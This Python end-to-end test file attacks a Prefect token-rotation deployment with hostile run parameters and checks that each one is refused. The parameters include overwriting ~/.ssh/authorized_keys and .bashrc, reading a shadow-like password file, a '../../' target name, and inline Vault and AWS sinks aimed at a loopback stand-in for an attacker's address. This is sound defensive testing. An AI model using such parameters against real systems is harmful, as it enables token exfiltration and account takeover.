"""Tested as an attacker would: someone who may only start deployment runs.

Against the shared real ``prefect server start``, the deployments of ``prefect.yaml``
(``prefect --no-prompt deploy --all`` from an empty folder) and a process worker with its
own ``HOME``. The attacker sends what the UI's custom-run form and ``prefect deployment
run --params`` send: parameters. Every attack of issue 17 is tried:

- ``mint-token`` writing the worker's ``~/.ssh/authorized_keys``, and its ``~/.bashrc`` as
  dotenv with another team's credentials block;
- ``rotate-tokens`` with inline targets aimed at the attacker's address (a Vault sink with
  ``jwt_role``, AWS sinks with ``endpoint_url``), also smuggled in as an inline fleet;
- another team's credentials block named as the fleet;
- a target of the operator's fleet that points at a foreign Secret block or a foreign
  file (ownership), or outside ``USEGRANT_FILE_ROOT`` (worker bounds);
- ``targets_file`` naming a shadow-like password file;
- a Vault whose error text quotes the ``X-Vault-Token``;
- the host child deployment started on the wrong queue.

Each is refused when the run is created, or the run fails with one line. A loopback
recorder (the attacker's address) receives no request; the planted files and Secret
block are byte-identical afterwards; no planted secret shows in any state, log or
artifact; and a run with the deployment's own parameters (what the schedule sends)
still delivers.
"""

from __future__ import annotations

import json
import re
import shutil
import threading
import time
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import httpx
import pytest
import yaml

from tests.e2e.conftest import REPO_ROOT, PrefectServer, free_port
from usegrant_flows.api.verify import verify_token
from usegrant_flows.sinks import FileTokenSink

pytestmark = pytest.mark.timeout(900)

POOL = "usegrant-process"
VAULT_TOKEN = "hvs.operator-vault-token-7e1f0c2b9a"
SHADOW = "root:$6$attack$HASHEDROOTPASSWORDxyz:19000:0:99999:7:::\n"
AUTHORIZED_KEYS = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIOperatorKeyE2E operator@host\n"
BASHRC = "export PATH=$HOME/bin:$PATH  # the operator's shell\n"
APP_ENV = "DB_PASSWORD=planted-db-password-3c4d\n"
TEAM_SECRET = "team-db-password-9f8e"
RUN_ALL_TIMEOUT = 600.0  # seconds for every created run to end (worker passes)
BUSY_TIMEOUT = 60.0  # seconds to keep asking a busy (503) server
#: What the server said when it refused a run at creation, by deployment and parameters.
REFUSALS: dict[str, str] = {}


class Recorder:
    """A loopback HTTP server standing for the attacker's address: records every request."""

    def __init__(self, *, echo_vault_token: bool = False) -> None:
        self.requests: list[str] = []
        outer = self

        class Handler(BaseHTTPRequestHandler):
            def _answer(self) -> None:
                outer.requests.append(f"{self.command} {self.path}")
                token = self.headers.get("X-Vault-Token", "")
                body = json.dumps({"errors": [f"permission denied for token {token}"]})
                self.send_response(403 if not echo_vault_token else 400)
                self.send_header("Content-Type", "application/json")
                self.end_headers()
                self.wfile.write(body.encode())

            do_GET = do_POST = do_PUT = _answer

            def log_message(self, *args: Any) -> None:
                return None

        self.server = ThreadingHTTPServer(("127.0.0.1", free_port()), Handler)
        self.thread = threading.Thread(target=self.server.serve_forever, daemon=True)
        self.thread.start()

    @property
    def url(self) -> str:
        return f"http://127.0.0.1:{self.server.server_address[1]}"

    @property
    def host(self) -> str:
        return f"127.0.0.1:{self.server.server_address[1]}"

    def close(self) -> None:
        self.server.shutdown()
        self.server.server_close()


@pytest.fixture(scope="module")
def recorder() -> Iterator[Recorder]:
    server = Recorder()
    yield server
    server.close()


@pytest.fixture(scope="module")
def hostile_vault() -> Iterator[Recorder]:
    server = Recorder(echo_vault_token=True)
    yield server
    server.close()


@pytest.fixture(scope="module")
def home(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The worker's own HOME, with the files an attacker would like to overwrite or read."""
    home = tmp_path_factory.mktemp("worker-home")
    (home / ".ssh").mkdir(mode=0o700)
    (home / ".ssh" / "authorized_keys").write_text(AUTHORIZED_KEYS)
    (home / ".bashrc").write_text(BASHRC)
    (home / "shadow").write_text(SHADOW)
    (home / "tokens").mkdir(mode=0o700)
    (home / "tokens" / "app.env").write_text(APP_ENV)
    return home


def worker_env(home: Path, hostile_vault: Recorder) -> dict[str, str]:
    return {
        "HOME": str(home),
        "USEGRANT_FILE_ROOT": str(home / "tokens"),
        "USEGRANT_ALLOWED_ENDPOINTS": hostile_vault.host,
    }


def fleet_ref(name: str) -> dict[str, Any]:
    return {"$ref": {"block_document_slug": f"usegrant-fleet/{name}"}}


@pytest.fixture(scope="module")
def operator(
    prefect_server: PrefectServer,
    registered_blocks: None,
    credentials_block: str,
    emulator: Any,
    home: Path,
    hostile_vault: Recorder,
    tmp_path_factory: pytest.TempPathFactory,
) -> dict[str, Any]:
    """What the operator saved: fleets, a Vault sink block, another team's Secret block."""
    project = tmp_path_factory.mktemp("attack-project")
    shutil.copy(REPO_ROOT / "prefect.yaml", project / "prefect.yaml")
    prefect_server.run_cli("work-pool", "create", POOL, "--type", "process", "--overwrite")
    prefect_server.run_cli("--no-prompt", "deploy", "--all", cwd=project)
    provider = emulator.seed.providers[0]
    client = provider.clients[0]

    def target(name: str, sinks: list[Any]) -> dict[str, Any]:
        return {"name": name, "client_id": str(client.id), "sinks": sinks}

    honest = {
        "defaults": {"credentials": credentials_block, "provider_id": str(provider.id)},
        "targets": [
            target(
                "honest",
                [
                    {"type": "file", "path": str(home / "tokens" / "honest.jwt")},
                    {"type": "secret-block", "secret_block_name": "e2e-attack-honest"},
                ],
            )
        ],
    }
    traps = {
        "defaults": honest["defaults"],
        "targets": [
            target("foreign-secret", [{"type": "secret-block", "secret_block_name": TEAM_SECRET}]),
            target(
                "foreign-file",
                [{"type": "file", "path": str(home / "tokens" / "app.env"), "format": "dotenv"}],
            ),
            target(
                "outside-root", [{"type": "file", "path": str(home / ".ssh" / "authorized_keys")}]
            ),
            target("hostile-vault", ["usegrant-vault-kv-token-sink/e2e-hostile-vault"]),
        ],
    }

    def save() -> None:  # what the operator saves, with Prefect's own client
        from prefect.blocks.system import Secret

        from usegrant_flows.rotation.fleet_block import UseGrantFleet
        from usegrant_flows.sinks import VaultKvTokenSink

        Secret(value="planted-team-password").save(TEAM_SECRET, overwrite=True)
        vault = VaultKvTokenSink(url=hostile_vault.url, path="usegrant/x", token=VAULT_TOKEN)  # type: ignore[arg-type]
        vault.save("e2e-hostile-vault", overwrite=True)
        UseGrantFleet.model_validate(honest).save("usegrant", overwrite=True)
        UseGrantFleet.model_validate(traps).save("e2e-traps", overwrite=True)

    prefect_server.call(save)
    return {"credentials": credentials_block, "provider": provider, "client": client}


def deployment_id(server: PrefectServer, name: str) -> str:
    flow = "mint-token" if name == "mint-token" else "rotate-tokens"
    return str(api(server, "GET", f"/deployments/name/{flow}/{name}")["id"])


def request(server: PrefectServer, method: str, path: str, **kwargs: Any) -> httpx.Response:
    """One API call, asked again while a busy SQLite server answers 503 (bounded)."""
    deadline = time.monotonic() + BUSY_TIMEOUT
    with httpx.Client(base_url=server.api_url, timeout=30.0) as client:
        while True:
            answer = client.request(method, path, **kwargs)
            if answer.status_code != 503 or time.monotonic() > deadline:
                return answer
            time.sleep(1.0)


def api(server: PrefectServer, method: str, path: str, **kwargs: Any) -> Any:
    answer = request(server, method, path, **kwargs)
    answer.raise_for_status()
    return answer.json()


def attempt(server: PrefectServer, name: str, parameters: dict[str, Any]) -> str | None:
    """Create a run; return its id, or None when the server refused it at creation."""
    answer = request(
        server,
        "POST",
        f"/deployments/{deployment_id(server, name)}/create_flow_run",
        json={"parameters": parameters},
    )
    if answer.status_code in (409, 422):
        REFUSALS[f"{name} {sorted(parameters)}"] = answer.text[:2000]
        return None
    answer.raise_for_status()
    return str(answer.json()["id"])


def run_all(server: PrefectServer, ids: list[str], env: dict[str, str]) -> dict[str, Any]:
    """Let the worker run the created runs (the deployment's limit of 1 needs passes)."""
    runs: dict[str, Any] = {}
    deadline = time.monotonic() + RUN_ALL_TIMEOUT
    while time.monotonic() < deadline:
        server.start_worker(POOL, env=env, timeout=400, cwd=env["HOME"])
        runs = {i: api(server, "GET", f"/flow_runs/{i}") for i in ids}
        if all(
            r["state"]["type"] in {"COMPLETED", "FAILED", "CRASHED", "CANCELLED"}
            for r in runs.values()
        ):
            return runs
        time.sleep(5.0)  # a run waiting for the deployment's slot is due again soon
    raise AssertionError({i: r["state"]["type"] for i, r in runs.items()})


def visible_text(server: PrefectServer, ids: list[str]) -> str:
    """Everything a run left in the server: states, logs, artifacts (as JSON text)."""
    runs = [api(server, "GET", f"/flow_runs/{i}") for i in ids]
    logs = api(
        server, "POST", "/logs/filter", json={"logs": {"flow_run_id": {"any_": ids}}, "limit": 200}
    )
    artifacts = api(
        server,
        "POST",
        "/artifacts/filter",
        json={"artifacts": {"flow_run_id": {"any_": ids}}, "limit": 200},
    )
    return json.dumps([runs, logs, artifacts])


@pytest.fixture(scope="module")
def attacks(
    prefect_server: PrefectServer,
    operator: dict[str, Any],
    home: Path,
    recorder: Recorder,
    hostile_vault: Recorder,
) -> dict[str, Any]:
    """Every attack, created at once and run by the worker; the outcome of each."""
    provider, client = operator["provider"], operator["client"]
    ids = {"provider_id": str(provider.id), "client_id": str(client.id)}
    inline_fleet = {
        "targets": [
            {
                "name": "exfiltrate",
                **ids,
                "sinks": [
                    {"type": "vault-kv", "url": recorder.url, "path": "x", "jwt_role": "r"},
                    {
                        "type": "aws-secrets-manager",
                        "secret_name": "x",
                        "endpoint_url": recorder.url,
                        "region_name": "us-east-1",
                    },
                    {"type": "file", "path": str(home / ".ssh" / "authorized_keys")},
                ],
            }
        ]
    }
    plan: dict[str, tuple[str, dict[str, Any]]] = {
        "authorized_keys via file_path": (
            "mint-token",
            {**ids, "file_path": str(home / ".ssh" / "authorized_keys")},
        ),
        ".bashrc as dotenv with another team's credentials": (
            "mint-token",
            {
                **ids,
                "file_path": str(home / ".bashrc"),
                "file_format": "dotenv",
                "credentials_block": operator["credentials"],
            },
        ),
        "inline targets to the attacker's Vault and AWS": (
            "rotate-tokens",
            {"targets": inline_fleet["targets"]},
        ),
        "targets_file naming a password file": (
            "rotate-tokens",
            {"targets_file": str(home / "shadow")},
        ),
        "a saved target plus file_path and another team's credentials": (
            "mint-token",
            {
                "fleet": fleet_ref("usegrant"),
                "target": "honest",
                "file_path": str(home / ".bashrc"),
                "file_format": "dotenv",
                "credentials_block": operator["credentials"],
            },
        ),
        "an inline fleet (mint-token)": (
            "mint-token",
            {"fleet": inline_fleet, "target": "exfiltrate"},
        ),
        "an inline fleet (rotate-tokens)": ("rotate-tokens", {"fleet": inline_fleet}),
        "another team's credentials block as the fleet": (
            "mint-token",
            {
                "fleet": {
                    "$ref": {
                        "block_document_slug": f"usegrant-credentials/{operator['credentials']}"
                    }
                },
                "target": "x",
            },
        ),
        "an unknown target name": (
            "mint-token",
            {"fleet": fleet_ref("e2e-traps"), "target": "../../.ssh/authorized_keys"},
        ),
        "a foreign Secret block": (
            "mint-token",
            {"fleet": fleet_ref("e2e-traps"), "target": "foreign-secret"},
        ),
        "a foreign file": (
            "mint-token",
            {"fleet": fleet_ref("e2e-traps"), "target": "foreign-file"},
        ),
        "a file outside USEGRANT_FILE_ROOT": (
            "mint-token",
            {"fleet": fleet_ref("e2e-traps"), "target": "outside-root"},
        ),
        "a Vault error quoting its token": (
            "mint-token",
            {"fleet": fleet_ref("e2e-traps"), "target": "hostile-vault"},
        ),
        "the host deployment on the wrong queue": (
            "rotate-tokens-on-host",
            {"fleet": fleet_ref("e2e-traps"), "queue": "host-elsewhere"},
        ),
    }
    planted = {
        path: path.read_bytes()
        for path in (
            home / ".ssh" / "authorized_keys",
            home / ".bashrc",
            home / "shadow",
            home / "tokens" / "app.env",
        )
    }
    created = {
        label: attempt(prefect_server, name, params) for label, (name, params) in plan.items()
    }
    honest = attempt(prefect_server, "rotate-tokens", {})  # the deployment's own parameters
    assert honest is not None, REFUSALS
    # What an operator types: `prefect deployment run --params`, the fleet by its slug.
    by_cli = prefect_server.run_cli(
        "deployment",
        "run",
        "rotate-tokens/rotate-tokens",
        "--params",
        json.dumps({"fleet": fleet_ref("usegrant"), "target_names": ["honest"], "force": True}),
    ).stdout
    [cli_run] = re.findall(r"UUID: ([0-9a-f-]{36})", by_cli)
    run_ids = [i for i in created.values() if i is not None]
    everything = [*run_ids, honest, cli_run]
    runs = run_all(prefect_server, everything, worker_env(home, hostile_vault))
    outcomes = {
        label: REFUSALS.get("refused") if flow_run_id is None else runs[flow_run_id]["state"]
        for label, flow_run_id in created.items()
    }
    (REPO_ROOT / "test-outputs").mkdir(exist_ok=True)
    (REPO_ROOT / "test-outputs" / "attacks-raw.json").write_text(
        json.dumps({"outcomes": outcomes, "refusals": REFUSALS}, indent=2, default=str)
    )
    return {
        "created": created,
        "runs": runs,
        "honest": runs[honest],
        "cli": runs[cli_run],
        "planted": planted,
        "visible": visible_text(prefect_server, everything),
    }


def test_every_attack_is_refused_at_creation_or_fails_in_one_line(attacks: dict[str, Any]) -> None:
    outcomes = {}
    for label, flow_run_id in attacks["created"].items():
        if flow_run_id is None:
            outcomes[label] = "refused at creation"
            continue
        state = attacks["runs"][flow_run_id]["state"]
        # CRASHED: a parameter the flow does not take stops Prefect's flow-run process
        # before any of our code runs (Prefect 3.9 schemas allow extra properties).
        assert state["type"] in ("FAILED", "CRASHED"), (label, state)
        assert "\n" not in (state["message"] or ""), (label, state["message"])
        outcomes[label] = state["message"]
    Path(REPO_ROOT / "test-outputs").mkdir(exist_ok=True)
    (REPO_ROOT / "test-outputs" / "attacks.json").write_text(json.dumps(outcomes, indent=2))


def test_each_refusal_names_what_stopped_it(attacks: dict[str, Any]) -> None:
    def message(label: str) -> str:
        flow_run_id = attacks["created"][label]
        return (
            "refused at creation"
            if flow_run_id is None
            else attacks["runs"][flow_run_id]["state"]["message"]
        )

    crashed = "Process exited with status code: 1. Process exited with a general error."
    for label in (
        "inline targets to the attacker's Vault and AWS",
        "targets_file naming a password file",
        "a saved target plus file_path and another team's credentials",
    ):
        assert message(label) == crashed, label
    assert "got a fleet given inline" in message("an inline fleet (mint-token)")
    assert "got a fleet given inline" in message("an inline fleet (rotate-tokens)")
    assert "got a UseGrantCredentials" in message("another team's credentials block as the fleet")
    assert "has no target" in message("an unknown target name")
    assert "holds something other than a JWT" in message("a foreign Secret block")
    assert "set `adopt: true`" in message("a foreign file")
    assert "outside USEGRANT_FILE_ROOT" in message("a file outside USEGRANT_FILE_ROOT")
    assert "[redacted]" in message("a Vault error quoting its token")
    assert "not 'host-elsewhere'" in message("the host deployment on the wrong queue")


def test_the_attackers_address_receives_no_request(
    attacks: dict[str, Any], recorder: Recorder
) -> None:
    assert recorder.requests == []


def test_planted_files_and_secret_block_are_byte_identical(
    attacks: dict[str, Any], prefect_server: PrefectServer
) -> None:
    for path, content in attacks["planted"].items():
        assert path.read_bytes() == content, path
    from prefect.blocks.system import Secret

    assert prefect_server.call(lambda: Secret.load(TEAM_SECRET).get()) == "planted-team-password"


def test_no_planted_secret_or_file_content_shows_in_states_logs_or_artifacts(
    attacks: dict[str, Any],
) -> None:
    text = attacks["visible"]
    for secret in (
        VAULT_TOKEN,
        "HASHEDROOTPASSWORD",
        "OperatorKeyE2E",
        "planted-db-password",
        "planted-team-password",
    ):
        assert secret not in text, secret


def test_an_honest_run_with_the_deployments_own_parameters_still_delivers(
    attacks: dict[str, Any], emulator: Any, home: Path, prefect_server: PrefectServer
) -> None:
    assert attacks["honest"]["state"]["type"] == "COMPLETED", attacks["honest"]["state"]
    token = FileTokenSink(path=home / "tokens" / "honest.jwt").read()
    assert token is not None
    client = emulator.seed.providers[0].clients[0]
    verify_token(token, emulator.jwks_url, audience=client.audience)
    from prefect.blocks.system import Secret

    assert (
        prefect_server.call(lambda: Secret.load("e2e-attack-honest").get())
        == token.access_token.get_secret_value()
    )


def test_a_run_from_the_cli_naming_the_fleet_by_its_slug_delivers(
    attacks: dict[str, Any],
) -> None:
    assert attacks["cli"]["state"]["type"] == "COMPLETED", attacks["cli"]["state"]
    assert attacks["cli"]["parameters"]["target_names"] == ["honest"]


def test_the_deployments_schema_names_only_saved_things(
    operator: dict[str, Any], prefect_server: PrefectServer
) -> None:
    forbidden = {
        "targets",
        "targets_file",
        "fleet_block",
        "file_path",
        "credentials_block",
        "url",
        "endpoint_url",
    }
    for name in ("rotate-tokens", "rotate-tokens-on-host", "mint-token"):
        flow = "mint-token" if name == "mint-token" else "rotate-tokens"
        schema = prefect_server.api("GET", f"/deployments/name/{flow}/{name}")[
            "parameter_openapi_schema"
        ]
        assert not set(schema["properties"]) & forbidden, name
        assert schema["properties"]["fleet"]["$ref"] == "#/definitions/UseGrantFleet"
    deployed = yaml.safe_load((REPO_ROOT / "prefect.yaml").read_text())["deployments"]
    for deployment in deployed:
        assert not set(deployment.get("parameters") or {}) & forbidden
